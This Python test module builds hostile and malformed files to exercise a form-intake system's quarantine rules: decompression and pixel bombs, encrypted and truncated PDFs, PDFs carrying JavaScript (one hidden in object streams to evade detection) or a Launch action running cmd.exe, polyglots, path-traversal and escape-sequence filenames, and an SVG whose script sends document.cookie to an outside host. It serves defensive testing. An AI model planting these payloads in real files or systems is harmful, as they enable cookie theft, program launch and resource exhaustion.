"""Hostile and broken inputs, made by code at test time (no binary blobs committed).

Each `Specimen` is one file (or symlink) to drop into the inbox, with what intake must make of it
and the words a person reads in the reason or warning. `write_corpus` writes them all into an
inbox, plus the files outside it that the symlinks point to. Used by tests/test_hostile*.py and
usable by hand:

    .venv/bin/python -m tests.corpus.hostile OUT_DIR

Every file has different bytes (intake keys files by content), and the text-layer PDFs carry an
objection form's labels so a file that is read goes on to a submission (pending its KTP).
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

FORM_TEXT = [
    "FORMULIR KEBERATAN",
    "Nama : Rina Contoh Sari",
    "NIK : 6171054512900003",
    "Alamat : Jl. Contoh Raya No. 12, Pontianak",
    "Pontianak, 12 Oktober 2026",
]

# --- building blocks ---------------------------------------------------------------------------


def text_pdf(lines: list[str], pages: int = 1) -> PdfWriter:
    """A small PDF with a real text layer (Helvetica), built without a renderer."""
    writer = PdfWriter()
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    font_ref = writer._add_object(font)
    body = "".join(f"BT /F1 11 Tf 60 {780 - 16 * i} Td ({t}) Tj ET\n" for i, t in enumerate(lines))
    for _ in range(pages):
        page = writer.add_blank_page(595, 842)
        stream = DecodedStreamObject()
        stream.set_data(body.encode("latin-1"))
        page[NameObject("/Contents")] = writer._add_object(stream)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font_ref})}
        )
    return writer


def pdf_bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def form_pdf(label: str) -> PdfWriter:
    """A text-layer objection form; `label` makes its bytes unique."""
    return text_pdf([*FORM_TEXT, f"Catatan: {label}"])


def flate_bomb(megabytes: int, byte: bytes = b" ") -> bytes:
    """`megabytes` MB of one byte, deflated to about a thousandth of that."""
    packer = zlib.compressobj(9)
    block = byte * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def bomb_png(width: int, height: int) -> bytes:
    """A real, valid 1-bit PNG of width×height: megapixels of white in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    rows = [packer.compress(row * 1000) for _ in range(height // 1000)]
    idat = b"".join(rows) + packer.compress(row * (height % 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"".join(
        [b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", header), chunk(b"IDAT", idat), chunk(b"IEND", b"")]
    )


def many_page_tiff(pages: int, size: int = 1000) -> bytes:
    """A bitonal group-4 TIFF of `pages` blank pages (a fax gone wrong): small on disk."""
    frames = [Image.new("1", (size, size), 1) for _ in range(pages)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "TIFF", compression="group4", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- the hostile PDFs --------------------------------------------------------------------------


def truncated_pdf() -> bytes:
    data = pdf_bytes(form_pdf("terpotong"))
    return data[: len(data) // 3]


def encrypted_pdf() -> bytes:
    writer = form_pdf("terkunci")
    writer.encrypt(user_password="rahasia", owner_password="pemilik")
    return pdf_bytes(writer)


@cache  # costly to make (compressing megabytes); the same bytes every time
def content_bomb_pdf() -> bytes:
    """One page whose drawing instructions inflate from ~120 kB to 120 MB."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = StreamObject()
    stream._data = flate_bomb(120)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    return pdf_bytes(writer)


@cache  # costly to make (compressing megabytes); the same bytes every time
def image_bomb_pdf() -> bytes:
    """An A4 page showing one 20000×20000 bitonal image (400 megapixels in ~50 kB)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    image = StreamObject()
    image._data = flate_bomb(50, b"\xff")
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(20000),
            NameObject("/Height"): NumberObject(20000),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(1),
            NameObject("/Filter"): NameObject("/FlateDecode"),
        }
    )
    resources = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(image)})}
    )
    page[NameObject("/Resources")] = resources
    draw = DecodedStreamObject()
    draw.set_data(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    page[NameObject("/Contents")] = writer._add_object(draw)
    return pdf_bytes(writer)


def javascript_pdf() -> bytes:
    writer = form_pdf("skrip")
    writer.add_open_action(JavaScript("app.alert('halo');"))
    return pdf_bytes(writer)


def hidden_javascript_pdf() -> bytes:
    """JavaScript on a link annotation, inside a compressed object stream: no `/JS` in the bytes.

    Written with pikepdf (qpdf), which ocrmypdf brings along; pypdf cannot write object streams.
    """
    import pikepdf

    source = pikepdf.open(io.BytesIO(pdf_bytes(form_pdf("skrip tersembunyi"))))
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 595, 842],
        A=action,
    )
    source.pages[0].Annots = source.make_indirect(pikepdf.Array([source.make_indirect(link)]))
    buffer = io.BytesIO()
    source.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = buffer.getvalue()
    assert b"/JS" not in data and b"/JavaScript" not in data
    return data


def launch_pdf() -> bytes:
    """An open action that would start a program (Windows' cmd.exe) in a careless viewer."""
    writer = form_pdf("peluncur")
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/Win"): DictionaryObject(
                {
                    NameObject("/F"): TextStringObject("cmd.exe"),
                    NameObject("/P"): TextStringObject("/c calc.exe"),
                }
            ),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)
    return pdf_bytes(writer)


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (the archive appended after %%EOF)."""
    archive = zip_bytes({"payload.exe": b"MZ" + os.urandom(2000)}, stored=True)
    return pdf_bytes(form_pdf("poliglot")) + archive


def zip_pdf_polyglot() -> bytes:
    """A ZIP archive whose first member is a PDF, stored: it starts with PK, not %PDF."""
    return zip_bytes({"formulir.pdf": pdf_bytes(form_pdf("di dalam zip"))}, stored=True)


def giant_page_pdf() -> bytes:
    """A page 15 km square (UserUnit 75) with nothing on it: no text, too big to draw."""
    writer = PdfWriter()
    page = writer.add_blank_page(14400, 14400)
    page[NameObject("/UserUnit")] = NumberObject(75)
    page[NameObject("/MediaBox")] = ArrayObject([NumberObject(0)] * 2 + [NumberObject(14400)] * 2)
    return pdf_bytes(writer)


# --- the corpus ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Specimen:
    """One hostile input: where it goes in the inbox, what intake must do, why."""

    name: str | bytes  # path relative to the inbox; bytes for a name that is not UTF-8
    # "quarantined" (a symlink too: set aside, never followed); "pending" (read; waits for KTP);
    # "ignored" (a hidden name, or a symlinked folder: never taken or entered, left where it is)
    outcome: str
    reason: str  # words the person must read in the reason (or a warning of the read file)
    make: Callable[[], bytes] | None = None  # the content; None for symlinks
    link_to: str | None = None  # a symlink to this path under the "outside" folder

    @property
    def label(self) -> str:
        raw = self.name if isinstance(self.name, bytes) else self.name.encode()
        return raw.decode("ascii", errors="replace")[:40]


LONG_NAME = "formulir-" + "p" * (255 - len("formulir-") - len(".pdf")) + ".pdf"  # 255 bytes


def specimens() -> list[Specimen]:
    """Every hostile input; the reasons are the clerk-facing words the tests look for."""
    content = "content"
    return [
        Specimen("terpotong.pdf", "quarantined", "damaged or truncated", truncated_pdf),
        Specimen("terkunci.pdf", "quarantined", "protected by a password", encrypted_pdf),
        Specimen("bom-isi.pdf", "quarantined", "decompression bomb", content_bomb_pdf),
        Specimen("bom-gambar.pdf", "quarantined", "pixel limit", image_bomb_pdf),
        Specimen("raksasa-halaman.pdf", "quarantined", "pixel limit", giant_page_pdf),
        Specimen("poliglot-pdf-zip.pdf", "pending", "after the end of the PDF", pdf_zip_polyglot),
        Specimen("poliglot-zip-pdf.pdf", "quarantined", "ZIP archive", zip_pdf_polyglot),
        Specimen("seratus-megapiksel.png", "quarantined", "pixel limit", _png_100mp),
        Specimen("seribu-halaman.tif", "quarantined", "more than 200 pages", _tiff_1000),
        Specimen("skrip.pdf", "pending", "JavaScript", javascript_pdf),
        Specimen("skrip-tersembunyi.pdf", "pending", "JavaScript", hidden_javascript_pdf),
        Specimen("peluncur.pdf", "pending", "launch", launch_pdf),
        Specimen("gambar.pdf", "quarantined", "SVG", _svg),
        Specimen("halaman.pdf", "quarantined", "web page (HTML)", _html),
        Specimen("arsip.pdf", "quarantined", "ZIP archive", _zip),
        Specimen(b"formulir-\xff\xfe-latin1-\xe9.pdf", "pending", content, _form("bukan utf-8")),
        Specimen(LONG_NAME, "pending", content, _form("nama panjang")),
        Specimen("C:\\..\\..\\..\\keluar.pdf", "pending", content, _form("jalan keluar")),
        Specimen("..\\..\\tersembunyi.pdf", "ignored", "hidden", _form("tersembunyi")),
        Specimen("ktp\x1b[31m\x07merah\r.pdf", "quarantined", "damaged", _truncated_form),
        Specimen("tautan-keluar.pdf", "quarantined", "symbolic link", link_to="rahasia.pdf"),
        Specimen("tautan-folder", "ignored", "symlink", link_to="folder-luar"),
        Specimen("tautan-putus.pdf", "quarantined", "symbolic link", link_to="tidak-ada.pdf"),
    ]


@cache  # costly to make (compressing megabytes); the same bytes every time
def _png_100mp() -> bytes:
    return bomb_png(10_000, 10_000)


@cache  # costly to make (compressing megabytes); the same bytes every time
def _tiff_1000() -> bytes:
    return many_page_tiff(1000)


def _svg() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>fetch('https://example.org/'+document.cookie)</script></svg>"
    )


def _html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script>Formulir</body></html>"


def _zip() -> bytes:
    return zip_bytes({"formulir.docx": b"PK not really a docx"})


def _form(label: str) -> Callable[[], bytes]:
    return lambda: pdf_bytes(form_pdf(label))


def _truncated_form() -> bytes:
    data = pdf_bytes(form_pdf("nama berwarna"))
    return data[: len(data) // 2]


def outside_files(outside: Path) -> None:
    """What the symlinks point at: a readable form and a folder with one, outside the inbox."""
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "rahasia.pdf").write_bytes(pdf_bytes(form_pdf("di luar inbox")))
    (outside / "folder-luar").mkdir(exist_ok=True)
    (outside / "folder-luar" / "formulir.pdf").write_bytes(pdf_bytes(form_pdf("folder luar")))


def write_corpus(inbox: Path, outside: Path) -> dict[Specimen, Path]:
    """Write every specimen into `inbox` (symlinks pointing into `outside`) → its path."""
    inbox.mkdir(parents=True, exist_ok=True)
    outside_files(outside)
    written: dict[Specimen, Path] = {}
    for specimen in specimens():
        name = specimen.name if isinstance(specimen.name, bytes) else os.fsencode(specimen.name)
        path = Path(os.fsdecode(os.path.join(os.fsencode(inbox), name)))
        if specimen.link_to is not None:
            path.symlink_to(outside / specimen.link_to)
        else:
            assert specimen.make is not None
            path.write_bytes(specimen.make())
        written[specimen] = path
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for item, where in write_corpus(target / "inbox", target / "outside").items():
        print(f"{item.outcome:<12} {item.label:<42} {where.name[:60]!r}")
